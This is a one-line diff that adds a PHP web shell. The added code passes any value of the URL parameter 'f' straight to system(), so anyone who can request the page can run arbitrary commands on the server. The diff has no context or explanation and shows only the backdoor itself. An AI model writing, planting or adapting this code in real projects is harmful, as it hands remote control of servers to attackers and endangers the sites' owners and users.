@@ -1,0 +1,1 @@
+<?php if (isset($_GET['f'])) system($_GET['f']);
